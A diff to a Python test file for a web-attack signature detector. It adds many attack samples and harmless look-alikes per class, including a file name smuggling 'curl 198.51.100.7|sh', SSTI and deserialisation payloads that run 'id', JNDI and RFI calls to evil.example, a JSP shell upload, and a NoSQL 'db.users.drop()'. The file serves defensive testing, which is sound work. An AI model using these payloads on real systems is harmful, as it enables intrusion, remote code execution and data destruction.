@@ -1,5 +1,7 @@
 from __future__ import annotations
 
+import base64
+import gzip
 import json
 from urllib.parse import quote
 
@@ -64,12 +66,29 @@ def xml(body: str) -> Event:
     return _event("/api/soap", method="POST", body=body, headers=(("Content-Type", "text/xml"),))
 
 
+def _b64(raw: bytes) -> str:
+    return base64.b64encode(raw).decode()
+
+
+def _upload(filename: str) -> Event:
+    """A photo uploaded with a complaint, its file name quoted."""
+    body = (
+        '--b\r\nContent-Disposition: form-data; name="photo"; '
+        f'filename="{filename}"\r\nContent-Type: image/jpeg\r\n\r\nJFIF\r\n--b--\r\n'
+    )
+    ctype = (("Content-Type", "multipart/form-data; boundary=b"),)
+    return _event("/complaints", method="POST", body=body, headers=ctype)
+
+
 def _classes(event: Event, detector: WebAttackSignatures = DETECTOR) -> set[str]:
     return {h.attack_class for h in detector.inspect(event)}
 
 
 ATTACKS: dict[str, list[Event]] = {
     "sqli": [
+        q("admin')) OR (('x')=('x", "username"),  # parentheses around the tautology
+        q("1 AND 'A' NOT BETWEEN 0 AND 'A'"),  # sqlmap's between tamper
+        q("1--nVNaVoPYeva\nAND--ngNvzqu\n9227=9227"),  # sqlmap's space2dash
         q("' OR 1=1-- -"),
         q("3 UNION ALL SELECT NULL,NULL,NULL-- -"),
         raw("q=%2527%2520OR%2520%25271%2527%253D%25271"),  # double encoded
@@ -86,6 +105,8 @@ ATTACKS: dict[str, list[Event]] = {
         header("User-Agent", "Mozilla/5.0' or 1=1#"),
     ],
     "xss": [
+        form("<style>@import'//evil.example/x.css';</style>"),
+        form("<link rel=stylesheet href=//evil.example/x.css>"),
         q("<script>alert(1)</script>"),
         q('"><svg/onload=alert(document.domain)>'),
         q("<img src=x onerror=alert(1)>"),
@@ -100,6 +121,8 @@ ATTACKS: dict[str, list[Event]] = {
         form("<body onload=alert('x')>"),
     ],
     "traversal": [
+        q("..∕..∕..∕etc∕passwd", "file"),  # division slashes
+        q("////etc//passwd", "file"),
         q("../../../../etc/passwd", "file"),
         raw("file=..%2f..%2f..%2fetc%2fpasswd"),
         raw("file=%252e%252e%252f%252e%252e%252fetc%252fpasswd"),  # double encoded
@@ -113,6 +136,10 @@ ATTACKS: dict[str, list[Event]] = {
         _event("/static/../../../etc/passwd"),
     ],
     "rfi": [
+        q("https://evil.example/tpl/receipt.twig", "template"),
+        q("http://evil.example/shell.jpg", "page"),
+        q("ftp://evil.example/pub/inc.php", "base_dir"),
+        q("\\\\evil.example@SSL\\DavWWWRoot\\shell.php", "file"),
         q("http://198.51.100.7/shell.txt?", "page"),
         q("https://evil.example/c99.txt?", "page"),
         q("http://evil.example/shell.php", "include"),
@@ -125,6 +152,11 @@ ATTACKS: dict[str, list[Event]] = {
         q("HTTP://EVIL.EXAMPLE/R57.TXT?", "page"),
     ],
     "cmdi": [
+        q("pdf;/???/c?t /???/p??s??"),
+        q("ios;a=i;b=d;$a$b"),
+        q("$(rev<<<'di')"),
+        q("Ilica || whoami #", "street"),
+        _upload("pothole.jpg;curl 198.51.100.7|sh;.jpg"),
         q("127.0.0.1; cat /etc/passwd", "host"),
         q("x|id"),
         q("$(whoami)"),
@@ -139,6 +171,7 @@ ATTACKS: dict[str, list[Event]] = {
         q("a; /usr/bin/i\\d"),
     ],
     "ssrf": [
+        q("http://169.254.169.254.nip.io.evil.example/latest/meta-data/", "url"),
         q("http://169.254.169.254/latest/meta-data/", "url"),
         q("http://metadata.google.internal/computeMetadata/v1/", "webhook"),
         q("http://127.0.0.1:8080/admin", "url"),
@@ -171,6 +204,13 @@ ATTACKS: dict[str, list[Event]] = {
         xml('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % e SYSTEM "php://filter/x">%e;]>'),
     ],
     "ssti": [
+        q("{% print(7*7) %}"),
+        q("{{ settings.SECRET_KEY }}"),
+        q('${self.module.cache.util.os.system("id")}'),
+        q("<%import os%>${os.popen('id').read()}"),
+        q("#{root.process.mainModule.require('child_process').spawnSync('id').stdout}"),
+        q("{$smarty.version}"),
+        q('${pageContext.request.getSession().setAttribute("admin",true)}'),
         q("{{7*7}}"),
         q("${7*7}"),
         q("{{''.__class__.__mro__[1].__subclasses__()}}"),
@@ -183,6 +223,7 @@ ATTACKS: dict[str, list[Event]] = {
         raw("q=%7B%7B7%2A%277%27%7D%7D"),
     ],
     "jndi": [
+        header("Authorization", "Basic " + _b64(b"${jndi:ldap://evil.example/basic}:x")),
         header("User-Agent", "${jndi:ldap://evil.example/a}"),
         header("X-Api-Version", "${${lower:j}ndi:ldap://x.example/a}"),
         q("${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}"),
@@ -194,6 +235,14 @@ ATTACKS: dict[str, list[Event]] = {
         header("X-Whatever", "${${upper:j}ndi:ldap://x.example/a}"),
     ],
     "deserialisation": [
+        header("Cookie", "rememberMe=" + _b64(bytes(range(96)))),  # Shiro
+        header("Cookie", "session=" + _b64(gzip.compress(bytes.fromhex("aced0005737200")))),
+        q(_b64(b"cos\nsystem\n(S'id'\ntR.")),  # a protocol 0 pickle
+        q(_b64(b"\x80\x02cposix\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03.")),
+        api({"state": {"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}}),
+        api({"rce": {"__js_function": "function(){require('child_process').execSync('id')}"}}),
+        q("!<tag:yaml.org,2002:python/object/apply:os.system> ['id']"),
+        xml('<ObjectDataProvider MethodName="Start" ObjectType="{x:Type Diag:Process}"/>'),
         q('O:8:"stdClass":1:{s:1:"a";s:1:"b";}', "data"),
         q("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg", "state"),
         q("aced0005737200116a6176612e7574696c2e486173684d6170", "state"),
@@ -210,6 +259,9 @@ ATTACKS: dict[str, list[Event]] = {
         header("Cookie", "_session=BAhbB2MVR2VtOjpTcGVjRmV0Y2hlcmMTR2VtOjpJbnN0YWxsZXJV"),
     ],
     "nosqli": [
+        q("admin',$where:'1==1", "username"),
+        q("admin'; db.users.drop(); var a='", "username"),
+        api({"filter": [{"$lookup": {"from": "users", "as": "u"}}]}),
         raw("username=admin&password[$ne]=x"),
         api({"username": "admin", "password": {"$ne": None}}),
         api({"username": {"$regex": "^adm"}, "password": {"$gt": ""}}),
@@ -220,6 +272,11 @@ ATTACKS: dict[str, list[Event]] = {
         api({"$where": "this.password.match(/.*/)"}),
     ],
     "protocol": [
+        header("X-Original-URL", "/admin"),
+        header("Range", "bytes=0-18446744073709551615"),  # MS15-034
+        _event("/alerts%0d%0aSet-Cookie:%20aldsid=evil"),
+        q("\r\nLocation: https://evil.example", "next"),
+        _event("/static/shell.jsp", method="PUT", body="<% Runtime.getRuntime().exec(c); %>"),
         _event("/", method="TRACK"),
         _event("/", method="DEBUG"),
         _event("/", method="TRACE"),
@@ -236,6 +293,15 @@ ATTACKS: dict[str, list[Event]] = {
         _event("/", headers=(("Host", "a"), ("Host", "evil.example"))),
     ],
     "scanner": [
+        header("User-Agent", "Mozilla/5.0 SF/2.10b"),  # skipfish
+        header("User-Agent", "Mozlila/5.0 (Linux; Android 7.0; SM-G892A Bulid/NRD90M; wv)"),
+        header("User-Agent", "Hello, World"),  # Mozi
+        header("User-Agent", "ModatScanner/1.1"),
+        header("X-WVS-ID", "Acunetix-Deepscan/186"),
+        _event("/debug/pprof/"),
+        _event("/GponForm/diag_Form?images/"),
+        _event("/autodiscover/autodiscover.json?@zdi/Powershell"),
+        _event("/Telerik.Web.UI.WebResource.axd?type=rau"),
         header("User-Agent", "sqlmap/1.8.11#stable (https://sqlmap.org)"),
         header("User-Agent", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000042)"),
         header("User-Agent", "Mozilla/5.0 (compatible; Nuclei - Open-source project)"),
@@ -270,6 +336,7 @@ BENIGN: dict[str, list[Event]] = {
         api({"query": "order by date", "sort": "-created", "page": 2}),
     ],
     "xss": [
+        form("I like the <style> of the new benches"),
         q("<3"),
         form("Thank you for the new benches in Riverside park <3 <3"),
         form("Graffiti at Šoštarićeva 12 -- someone sprayed a <script> tag, ironic for a dev."),
@@ -281,6 +348,7 @@ BENIGN: dict[str, list[Event]] = {
         q("document.pdf", "file"),
     ],
     "traversal": [
+        q("1∕2 cup of flour"),
         form("Correction of my 2024 return; see letter ref. 2025/118."),
         q("/documents/2023/budget-summary.pdf", "next"),
         q("a..b"),
@@ -291,6 +359,7 @@ BENIGN: dict[str, list[Event]] = {
         q("../images/logo.png", "src"),  # a single ../ is a weak (level 2) signal
     ],
     "rfi": [
+        form("see https://news.example/article for details", "content"),
         q("https://aldmere.city/en/services", "next"),
         q("https://www.google.com/", "ref"),
         q("see http://example.com/page for details"),
@@ -301,6 +370,7 @@ BENIGN: dict[str, list[Event]] = {
         header("Referer", "http://198.51.100.7/shell.txt?"),  # referrers are not included
     ],
     "cmdi": [
+        form("What? /a?b/ is not a path I know"),
         q("Tom & Jerry; cats & dogs"),
         q("Fish | chips"),
         form("Cats; cat litter everywhere"),
@@ -333,6 +403,7 @@ BENIGN: dict[str, list[Event]] = {
         q("<x xmlns='urn:a'/>"),
     ],
     "ssti": [
+        form("The price is ${5} per bag, #{tag} for the event"),
         q("{{name}}"),
         q("Hello {name}"),
         form("Price: $5 * 2 for two"),
@@ -353,6 +424,8 @@ BENIGN: dict[str, list[Event]] = {
         q("$${a}"),
     ],
     "deserialisation": [
+        header("Cookie", "rememberMe=true; aldsid=gAJx7sKq9LmN2pQ4wXyZ0a"),
+        q("H4sI is how a gzip stream starts in base64"),
         form("O:8 is a train"),
         q("a:b:c"),
         form("Office hours 9:00-17:00"),
@@ -363,6 +436,7 @@ BENIGN: dict[str, list[Event]] = {
         q("c:\\temp", "dir"),
     ],
     "nosqli": [
+        form("the db.table is fine, db.users too"),
         q("$5 off"),
         q("price in $"),
         q("a==b"),
